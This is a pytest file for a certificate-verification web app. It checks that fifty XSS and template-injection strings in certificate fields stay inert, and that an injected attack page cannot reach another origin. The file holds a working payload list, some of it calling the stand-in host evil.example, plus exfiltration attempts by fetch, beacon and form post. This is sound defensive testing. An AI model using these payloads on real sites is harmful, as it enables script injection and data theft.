"""What a certificate or a stranger's page says is text: nothing runs, and nothing reaches another origin."""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
import uvicorn
from fastapi import FastAPI, Response
from playwright.sync_api import Browser

from tests.verification import conftest as world
from verification.certificate import Certificate, Party, new_number
from verification.endpoint.presentation import SECURITY_HEADERS
from verification.endpoint.router import verify_router
from verification.endpoint.scanner_page import SCANNER_HEADERS
from verification.reasons import harmless

# Each would call `hit()` or leave `window.hit` behind where it ran.
_CALLS = ("hit()", "hit`1`", "window.hit=1", "top.hit()", "parent['hit']()")
HOSTILE = [
    "<script>hit()</script>",
    "<script src=//evil.example/x></script>",
    "</script><script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<math><mtext></mtext><img src onerror=hit()></math>",
    "<iframe srcdoc='<script>top.hit()</script>'>",
    "<iframe src=javascript:hit()>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<a href=javascript:hit()>x</a>",
    "<form action=javascript:hit()><input type=submit>",
    "<button formaction=javascript:hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<marquee onstart=hit()>",
    "<style>@import '//evil.example/x'</style>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<template><img src onerror=hit()></template>",
    "<noscript><img src onerror=hit()></noscript>",
    '"><img src onerror=hit()>',
    "'><img src onerror=hit()>",
    '" onfocus=hit() autofocus x="',
    "' onmouseover='hit()",
    "`><img src onerror=hit()>",
    "--><img src onerror=hit()><!--",
    "]]><img src onerror=hit()>",
    "{{7*7}}{% raw %}<img src onerror=hit()>",
    "{{config.__class__.__init__.__globals__}}",
    "${hit()}#{hit()}",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "&lt;img src onerror=hit()&gt;",
    "&#60;img src onerror=hit()&#62;",
    "\\u003cimg src onerror=hit()\\u003e",
    "%3Cimg src onerror=hit()%3E",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<ScRiPt>hit()</sCrIpT>",
    "<img/src/onerror=hit()>",
    "<img src=x:x onerror=&#104;&#105;&#116;()>",
    "<a href='&#106;avascript:hit()'>x</a>",
    "<xss id=x tabindex=1 onfocus=hit()></xss>",
]


def certificate_of(number: int, text: str) -> Certificate:
    """A good certificate in which every text that is shown is that one."""
    party = {name: Party(id=getattr(world.CERTIFICATE, name).id, name=text) for name in _PARTIES}
    said = {
        "number": new_number(bytes([number]) * 10),
        "holder_name": text,
        "title": dict.fromkeys(("sv", "nb", "en"), text),
        "content": dict.fromkeys(("sv", "nb", "en"), (text,)),
        "restrictions": (text,),
        "scope_classes": (text,),
        "delivery": text,
        "language_training": text[:35],
        "language_test": text[:35],
        "mandate": text,
    }
    fits = {name: value for name, value in said.items() if _may_be(name, value)}
    return world.CERTIFICATE.model_copy(update={**fits, **party})


_PARTIES = tuple(
    name
    for name in ("issuer", "training_provider", "examination_body", "scheme_owner")
    if getattr(world.CERTIFICATE, name) is not None
)


def _may_be(name: str, value: object) -> bool:
    """Whether a certificate may say that at all: a code holds no such thing, and then nobody can show it."""
    from pydantic import ValidationError

    try:
        Certificate.model_validate({**dict(world.CERTIFICATE), name: value})
    except ValidationError:
        return False
    return True


class Elsewhere(ThreadingHTTPServer):
    """Another origin, which counts who comes."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Counting(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET  # noqa: N815 the name that is looked up

            def log_message(self, *_: object) -> None:
                return

        super().__init__(("127.0.0.1", 0), Counting)
        self.origin = f"http://127.0.0.1:{self.server_port}"


ATTACK = """<!doctype html><title>x</title><h1 id=h>unchanged</h1>
<script>document.getElementById('h').textContent = 'changed'; fetch('{there}/inline')</script>
<script src="{there}/foreign.js"></script>
<img src="{there}/pixel" onerror="fetch('{there}/handler')">
<link rel="stylesheet" href="{there}/style.css"><style>h1 {{ background: url({there}/in-style) }}</style>
<iframe src="{there}/frame"></iframe><object data="{there}/object"></object><embed src="{there}/embed">
<video src="{there}/video"></video><audio src="{there}/audio"></audio>
<base href="{there}/base/"><a ping="{there}/ping" id=a href="/here">x</a>
<form id=f action="{there}/form" method=post><input name=secret value=1></form>
<script type="module" src="/attack.js"></script>"""
SCRIPT = """
const there = "{there}";
const tried = {{}};
const attempt = async (name, what) => {{
  try {{ await what(); tried[name] = "done"; }} catch {{ tried[name] = "refused"; }}
}};
await attempt("fetch", () => fetch(there + "/fetch", {{ mode: "no-cors" }}));
await attempt("beacon", () => {{ if (!navigator.sendBeacon(there + "/beacon")) throw 0; }});
await attempt("image", () => {{ new Image().src = there + "/image"; }});
await attempt("innerHTML", () => {{ document.getElementById("h").innerHTML = "<img src=" + there + "/html>"; }});
await attempt("eval", () => (0, eval)("1"));
await attempt("parse", () => new DOMParser().parseFromString("<p>x</p>", "text/html"));
await attempt("policy", () => trustedTypes.createPolicy("other", {{}}));
await attempt("socket", () => {{ new WebSocket(there.replace("http", "ws") + "/socket"); }});
await attempt("worker", () => {{ new Worker(URL.createObjectURL(new Blob(["1"]))); }});
document.documentElement.dataset.tried = JSON.stringify(tried);
setTimeout(() => document.getElementById("f").submit(), 200);
"""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    there = Elsewhere()
    threading.Thread(target=there.serve_forever, daemon=True).start()
    yield there
    there.shutdown()


@pytest.fixture(scope="module")
def hostile(elsewhere: Elsewhere) -> Iterator[str]:
    """A registry whose certificates are hostile, and a page of a stranger's under the headers of ours."""
    tokens = {one.number: world.full(one) for one in (certificate_of(n, text) for n, text in enumerate(HOSTILE, 1))}
    app = FastAPI()
    app.include_router(verify_router(world.FakeSource(tokens=tokens)))

    @app.get("/attack/{kind}")
    async def attack(kind: str) -> Response:
        headers = SCANNER_HEADERS if kind == "scanner" else SECURITY_HEADERS
        return Response(ATTACK.format(there=elsewhere.origin), 200, headers, "text/html")

    @app.get("/attack.js")
    async def attack_script() -> Response:
        return Response(SCRIPT.format(there=elsewhere.origin), 200, {}, "text/javascript")

    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="error"))
    running = threading.Thread(target=server.run, daemon=True)
    running.start()
    while not server.started:
        assert running.is_alive()
    port = server.servers[0].sockets[0].getsockname()[1]
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    running.join(timeout=10)


def opened(browser: Browser) -> tuple[Any, list[str]]:
    page, said = browser.new_page(), list[str]()
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda fault: said.append(str(fault)))
    page.on("dialog", lambda dialog: (said.append("dialog"), dialog.dismiss()))
    page.add_init_script("window.hit = () => { window.wasHit = true; }; window.wasHit = false;")
    return page, said


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_fifty_texts_in_every_field_that_is_shown_stay_text(browser: Browser, hostile: str, lang: str) -> None:
    assert len(HOSTILE) == 50
    page, said = opened(browser)
    page.goto(f"{hostile}/v/several?lang={lang}")
    numbers = [new_number(bytes([place]) * 10) for place in range(1, len(HOSTILE) + 1)]
    page.locator("#list").fill("\n".join(numbers))
    page.locator("#by-list button").click()
    page.locator("details.one").nth(len(HOSTILE) - 1).wait_for()
    page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true })")
    shown = page.locator("section.several").inner_text()
    for text in HOSTILE:
        assert " ".join(harmless(text).split()) in " ".join(shown.split()), text
    assert page.evaluate("window.wasHit === false && typeof window.hit === 'function'")
    assert page.evaluate("document.querySelectorAll('section.several script, section.several img, iframe').length") == 0
    assert said == []
    # And by the script of the page, which makes nodes of what the registry answers.
    page.goto(f"{hostile}/v?lang={lang}#{world.full(certificate_of(1, HOSTILE[3])).strip()}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.wasHit") is False
    page.close()


@pytest.mark.parametrize("kind", ["page", "scanner"])
def test_a_page_that_was_taken_over_reaches_nobody_else(
    browser: Browser, hostile: str, elsewhere: Elsewhere, kind: str
) -> None:
    elsewhere.asked.clear()
    page, said = opened(browser)
    page.goto(f"{hostile}/attack/{kind}", wait_until="commit")  # a load that is refused never ends
    page.locator("html[data-tried]").wait_for(state="attached")
    tried = json.loads(page.locator("html").get_attribute("data-tried") or "")
    assert page.locator("#h").inner_text() == "unchanged"
    page.wait_for_timeout(600)  # it sends its form
    assert elsewhere.asked == []
    # A picture is asked for and refused without a word to whoever asks; so is a beacon.
    assert {name for name, what in tried.items() if what == "done"} <= {"image", "beacon", "worker", "socket"}
    assert len([line for line in said if "Content Security Policy" in line or "TrustedHTML" in line]) >= 6
    page.close()


def test_without_the_rules_the_same_page_reaches_elsewhere(browser: Browser, elsewhere: Elsewhere) -> None:
    """The control: what finds nothing must be able to find something."""
    elsewhere.asked.clear()
    page, _ = opened(browser)
    page.goto(f"{elsewhere.origin}/")
    page.set_content(ATTACK.format(there=elsewhere.origin), wait_until="commit")
    page.wait_for_timeout(500)
    assert len(elsewhere.asked) >= 4
    page.close()
